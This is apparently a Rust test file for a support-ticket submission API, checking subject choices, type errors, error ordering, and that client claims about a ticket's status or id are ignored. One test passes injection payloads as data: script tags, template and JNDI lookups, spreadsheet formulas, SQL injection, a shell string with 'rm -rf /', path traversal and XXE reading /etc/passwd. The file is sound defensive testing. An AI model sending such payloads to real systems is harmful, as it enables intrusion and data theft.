//! What forms say that they may not, and what has no effect.

use serde_json::{Value, json};

use super::super::shown::is_time_of_ours;
use super::super::table::{ACCEPTED, assert_is_a_ticket, assert_violations, check_fields};
use super::super::{Api, on_both_systems};
use crate::bed::form::Form;

on_both_systems! {
    subjects_are_one_of_five_words,
    what_is_markup_code_or_formula_elsewhere_is_text_here,
    what_is_no_text_is_of_the_wrong_type,
    every_violation_is_told_at_once_in_the_order_of_the_form,
    what_a_form_claims_of_its_ticket_has_no_effect,
}

async fn subjects_are_one_of_five_words(api: Api) {
    for subject in ["technical", "billing", "feature", "account", "general"] {
        check_fields(&api, [("a subject", "subject", json!(subject), ACCEPTED)]).await;
    }
    for text in [
        "",
        "Technical",
        "TECHNICAL",
        "technical ",
        "other",
        "tech\u{ad}nical",
        "ｔechnical",
        "technical,billing",
    ] {
        let row = ("no subject", "subject", json!(text), "invalid_choice");
        check_fields(&api, [row]).await;
    }
    let rows = [
        ("null", "subject", Value::Null, "required"),
        ("a number", "subject", json!(0), "wrong_type"),
        ("two subjects", "subject", json!(["technical", "billing"]), "wrong_type"),
    ];
    check_fields(&api, rows).await;
}

async fn what_is_markup_code_or_formula_elsewhere_is_text_here(api: Api) {
    for (name, text) in [
        ("markup", "<script>alert(1)</script>"),
        ("broken markup", "</textarea><img src=x onerror=alert(1)>"),
        ("a drawing", "<svg/onload=alert(1)>"),
        ("a template", "{{constructor.constructor('x')()}} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>"),
        ("a look-up of a logger", "${jndi:ldap://x.io/a}"),
        ("a formula", "=HYPERLINK(\"http://x.io\")"),
        ("plus", "+1"),
        ("minus", "-1"),
        ("at", "@SUM(1)"),
        ("a formula behind a tab", "x\t=1"),
        ("a full-width formula", "＝1"),
        ("SQL", "'; DROP TABLE tickets; --"),
        ("SQL for all", "' OR '1'='1"),
        ("a shell", "$(rm -rf /) `id` ; ls | cat"),
        ("a path", "../../../../etc/passwd"),
        ("JSON in JSON", "\"}, \\\" \\u0000 \\x00 \\"),
        ("XML", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;"),
        ("a word of JSON", "null"),
        ("a word of JavaScript", "undefined"),
        ("no number", "NaN"),
        ("a number", "1e999"),
    ] {
        check_fields(&api, ["name", "message"].map(|it| (name, it, json!(text), ACCEPTED))).await;
    }
}

async fn what_is_no_text_is_of_the_wrong_type(api: Api) {
    for field in ["name", "email", "subject", "message", "timestamp", "userId", "userAgent", "url"]
    {
        for (name, value) in [
            ("a number", json!(7)),
            ("zero", json!(0)),
            ("a fraction", json!(-1.5e300)),
            ("true", json!(true)),
            ("false", json!(false)),
            ("a list", json!(["Ada"])),
            ("nothing in a list", json!([])),
            ("an operator", json!({"$ne": null})),
            ("another", json!({"$gt": ""})),
            ("an object like a text", json!({"toString": "Ada", "length": 3})),
        ] {
            check_fields(&api, [(name, field, value, "wrong_type")]).await;
        }
    }
    for field in ["name", "email", "subject", "message", "timestamp"] {
        check_fields(&api, [("null", field, Value::Null, "required")]).await;
    }
}

async fn every_violation_is_told_at_once_in_the_order_of_the_form(api: Api) {
    let missing = [
        ("/name", "required"),
        ("/email", "required"),
        ("/subject", "required"),
        ("/message", "required"),
        ("/timestamp", "required"),
    ];
    assert_violations("{}", &api.submit_bytes("{}").await, &missing);
    let body = r#"{"url":"javascript:alert(1)","timestamp":1763807400,"userId":[],"message":" ",
        "subject":"Technical","email":null,"name":"a","userAgent":"\u001b[2J","name":"b"}"#;
    let all = [
        ("/name", "duplicate_field"),
        ("/email", "required"),
        ("/subject", "invalid_choice"),
        ("/message", "blank"),
        ("/timestamp", "wrong_type"),
        ("/userId", "wrong_type"),
        ("/userAgent", "control_character"),
        ("/url", "invalid_url"),
    ];
    assert_violations("every field", &api.submit_bytes(body).await, &all);
    let form = Form::valid().without("subject").email("ada").message("");
    let three = [("/email", "invalid_email"), ("/subject", "required"), ("/message", "blank")];
    assert_violations("three of them", &api.submit(&form).await, &three);
}

async fn what_a_form_claims_of_its_ticket_has_no_effect(api: Api) {
    let form = Form::valid()
        .subject("feature")
        .with("id", "00000000-0000-7000-8000-000000000000")
        .with("ticketNumber", "SUP-2026-000001")
        .with("status", "closed")
        .with("priority", "high")
        .with("submittedAt", "2000-01-01T00:00:00.000Z")
        .with("requestId", "mine")
        .with("__proto__", json!({"name": 1}))
        .with("constructor", json!({"prototype": {}}));
    let answer = api.submit(&form).await;
    assert_is_a_ticket(&api, "claims", &answer, &form).await;
    let created = &answer.json()["data"];
    let seen = &api.look_up(created["id"].as_str().unwrap()).await.json()["data"];
    for data in [created, seen] {
        assert_eq!((&data["status"], &data["priority"]), (&json!("open"), &json!("low")));
        assert_ne!(data["ticketNumber"], "SUP-2026-000001");
        assert!(is_time_of_ours(data["submittedAt"].as_str().unwrap()));
        assert!(data.get("__proto__").is_none() && data.get("requestId").is_none());
    }
}
